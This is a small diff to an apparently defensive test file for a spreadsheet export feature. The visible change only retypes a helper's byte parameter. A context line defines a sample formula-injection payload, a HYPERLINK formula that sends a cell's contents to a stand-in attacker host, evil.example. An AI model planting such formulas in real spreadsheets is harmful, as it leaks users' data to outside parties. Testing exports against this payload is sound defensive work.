@@ -7,7 +7,7 @@ import { watermarkedWorkbook } from '../../src/areas/shell/exportJobs/rules';
 const EVIL = '=HYPERLINK("https://evil.example/?d="&A2,"点此查看")';
 
 /** Every cell of a written workbook's first sheet: its type and value. */
-function cellsOf(bytes: Buffer): { t: string; v: unknown }[] {
+function cellsOf(bytes: Uint8Array): { t: string; v: unknown }[] {
   const book = XLSX.read(bytes, { type: 'buffer', cellFormula: true });
   const sheet = book.Sheets[book.SheetNames[0]!]!;
   return Object.entries(sheet)
